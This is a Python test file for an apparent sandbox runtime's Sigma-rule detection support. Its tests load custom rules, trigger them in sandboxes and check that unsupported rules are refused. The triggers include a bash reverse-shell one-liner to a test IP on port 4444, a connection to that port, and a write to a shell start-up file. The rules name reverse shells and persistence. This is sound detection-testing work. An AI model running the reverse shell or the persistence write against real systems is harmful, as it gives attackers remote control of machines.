"""Sigma rules as an input (detect/sigma.py): rules written for this test, in Sigma's own format, loaded
through `rule_files` beside corral's, judged on real sandboxes' events; and the rules corral cannot
express are refused naming the rule and the reason."""

from __future__ import annotations

from pathlib import Path

import pytest
import pytest_asyncio

from corral import Runtime, RuntimeConfig
from corral.detect import RuleError, load
from tests.conftest import allow, findings_for, py

pytestmark = pytest.mark.asyncio

RULES = """
title: Bash reverse shell through /dev/tcp
id: 5c5f0a5e-0000-4000-8000-000000000001
name: test_devtcp_revshell
description: A shell wired to /dev/tcp (written for corral's tests).
tags: [attack.execution, attack.t1059.004]
logsource: {category: process_creation, product: linux}
detection:
    selection:
        CommandLine|contains|all: ['/dev/tcp/', '>&']
    reading:
        Image|endswith: ['/grep', '/cat']
    condition: selection and not reading
level: high
---
title: Connection to the test sink on a C2 port
id: 5c5f0a5e-0000-4000-8000-000000000002
logsource: {category: network_connection, product: linux}
detection:
    selection:
        DestinationIp|cidr: 203.0.113.0/24
        DestinationPort: [4444, 5555]
    condition: selection
level: medium
---
title: Shell start-up file written
id: 5c5f0a5e-0000-4000-8000-000000000003
name: test_rc_write
tags: [attack.persistence, attack.t1546.004]
logsource: {category: file_event, product: linux}
detection:
    selection:
        TargetFilename|endswith: ['/.bashrc', '/.profile']
    condition: selection
level: low
---
title: Base64 flag spelled in capitals, matched as cased
id: 5c5f0a5e-0000-4000-8000-000000000004
name: test_cased
logsource: {category: process_creation, product: linux}
detection:
    selection:
        CommandLine|cased|contains: 'SIGMA-CASED'
        CommandLine|re: 'echo\\s+SIGMA'
    condition: selection
level: low
"""


@pytest_asyncio.fixture(scope="module")
async def sigma_rt(world, tmp_path_factory):
    d = tmp_path_factory.mktemp("sigma")
    (d / "linux.yml").write_text(RULES)
    rt = Runtime(RuntimeConfig(state_dir=d / "state", hosts=world.hosts, system_dns=False,
                               rule_files=(d / "linux.yml",)))
    await rt.start()
    yield rt
    await rt.close()


async def test_sigma_rules_judge_real_sandboxes(sigma_rt):
    rt = sigma_rt
    sb = await rt.create(allow("203.0.113.0/24:4444"))
    try:
        r = await sb.exec("timeout 2 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'; true")
        assert not r.refused or "sigma" not in (r.error or "")
        got = await findings_for(rt, sb, "sigma-test-devtcp-revshell")
        assert got and got[0].severity == "high" and got[0].technique == "T1059.004" and got[0].step == r.step
        await sb.exec(py("import socket\ntry: socket.create_connection(('203.0.113.10', 4444), timeout=2)\n"
                         "except OSError: pass"))
        assert await findings_for(rt, sb, "sigma-connection-to-the-test-sink-on-a-c2-port")
        # written by a program (the command line names no file): seen as a file event, after the write
        await sb.exec(py("open('/root/.' + 'bashrc', 'a').write('alias ll=ls\\n')"))
        assert await findings_for(rt, sb, "sigma-test-rc-write")
    finally:
        await sb.close()


async def test_sigma_filters_and_case_rules_keep_what_they_exclude_quiet(sigma_rt):
    rt = sigma_rt
    sb = await rt.create()
    try:
        # the same text, read by a tool the rule's filter excludes; another port; lower case for a cased rule
        await sb.exec("echo 'bash -i >& /dev/tcp/h/1 0>&1' > /workspace/n.txt; grep -c dev/tcp /workspace/n.txt; "
                      "cat /workspace/n.txt; /bin/echo sigma-cased")
        await findings_for(rt, sb, wait=0.5)
        ids = {f.rule_id for f in rt.store.findings(sandbox_id=sb.id)}
        assert not {i for i in ids if i.startswith("sigma-")}, ids
        await sb.exec("/bin/echo SIGMA-CASED")
        assert await findings_for(rt, sb, "sigma-test-cased")
    finally:
        await sb.close()


@pytest.mark.parametrize("body, msg", [
    ("logsource: {category: process_creation, product: windows}\ndetection: {s: {Image: x}, condition: s}",
     "log source process_creation/windows"),
    ("logsource: {category: process_creation, product: linux}\ndetection: {s: {User: root}, condition: s}",
     "field 'User' has no corral equivalent"),
    ("logsource: {category: process_creation, product: linux}\ndetection: {s: [evil], condition: s}",
     "keyword"),
    ("logsource: {category: process_creation, product: linux}\ndetection: {condition: s}", "not a valid Sigma"),
])
async def test_a_sigma_rule_corral_cannot_express_is_refused_by_name(tmp_path: Path, body, msg):
    f = tmp_path / "bad.yml"
    f.write_text(f"title: Bad one\nid: 5c5f0a5e-0000-4000-8000-00000000000f\n{body}\nlevel: high\n")
    with pytest.raises(RuleError, match=msg):
        load([f], base=load())
